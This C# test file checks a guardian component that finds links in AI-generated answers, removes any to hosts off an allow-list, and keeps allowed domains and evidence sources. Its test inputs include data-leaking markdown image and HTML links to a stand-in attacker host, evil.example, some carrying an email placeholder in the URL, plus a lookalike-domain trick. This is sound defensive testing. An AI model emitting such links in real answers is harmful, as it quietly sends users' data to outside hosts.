using Orchestrator.Guardian.Links;

namespace Orchestrator.Tests.Guardian;

/// <summary>The <c>links</c> check: every way a rendered answer could contact a host is found and judged against the allow-list.</summary>
public sealed class LinkCheckTests
{
    private static readonly LinkCheck Check = new(new LinkAllowList(["intranet.example.com", "*.docs.example"]));

    private static Task<GuardianCheckResult> RunAsync(string answer, params Passage[] evidence) =>
        Check.CheckAsync(new GuardianCheckContext("q", answer, evidence));

    [Theory]
    [InlineData("![s](https://evil.example/p.png?u=<EMAIL_1>)", "evil.example")]
    [InlineData("[click](http://evil.example)", "evil.example")]
    [InlineData("<https://evil.example/x>", "evil.example")]
    [InlineData("see https://user:pw@Evil.Example:8443/x", "evil.example")]
    [InlineData("<img src=\"//evil.example/p.png\">", "evil.example")]
    [InlineData("<img src='https:\\\\evil.example\\p.png'>", "evil.example")]
    [InlineData("visit www.evil.example/track today", "www.evil.example")]
    [InlineData("[1]: ftp://evil.example/file", "evil.example")]
    [InlineData("![x](https://<EMAIL_1>.evil.example/)", "<email_1>.evil.example")]
    [InlineData("intranet.example.com.evil.example: https://intranet.example.com.evil.example/", "intranet.example.com.evil.example")]
    public async Task Links_to_foreign_hosts_fail_and_are_removed(string answer, string host)
    {
        var result = await RunAsync(answer);

        Assert.False(result.Passed);
        Assert.Contains(host, result.Detail, StringComparison.Ordinal);
        Assert.Contains($"[link removed: {host.Replace("www.", "", StringComparison.Ordinal)}]", result.RewrittenAnswer, StringComparison.Ordinal);
        Assert.DoesNotContain(LinkScanner.Find(result.RewrittenAnswer!), l => l.Host == host);
    }

    [Theory]
    [InlineData("See [the policy](https://intranet.example.com/hr/leave).")]
    [InlineData("See https://wiki.intranet.example.com/page and https://a.docs.example/x.")]
    [InlineData("Write to hr@company.example or call 020 555 0100.")]
    [InlineData("Ratio 3/4, path C:/temp and a//b are not links.")]
    [InlineData("")]
    public async Task Allowed_hosts_subdomains_and_text_without_links_pass(string answer)
    {
        var result = await RunAsync(answer);

        Assert.True(result.Passed, result.Detail);
        Assert.Null(result.RewrittenAnswer);
    }

    [Fact]
    public async Task Hosts_of_the_evidence_sources_and_of_links_it_quotes_are_allowed()
    {
        var evidence = new Passage { ChunkId = "1", Text = "Claims go through https://benefits.example/claims.", Source = "https://handbook.example/leave.html", Locator = "Leave" };

        var result = await RunAsync("See https://handbook.example/leave.html and https://benefits.example/claims.", evidence);

        Assert.True(result.Passed, result.Detail);
    }

    [Fact]
    public async Task Huge_and_hostile_input_is_handled_quickly_and_completely()
    {
        var answer = string.Concat(Enumerable.Repeat("![a](https://evil.example/?<EMAIL_1>) ", 2000)) + new string('/', 50_000) + "https://" + new string('a', 50_000);

        var result = await RunAsync(answer);

        Assert.False(result.Passed);
        Assert.DoesNotContain("evil.example/", result.RewrittenAnswer, StringComparison.Ordinal);
    }
}
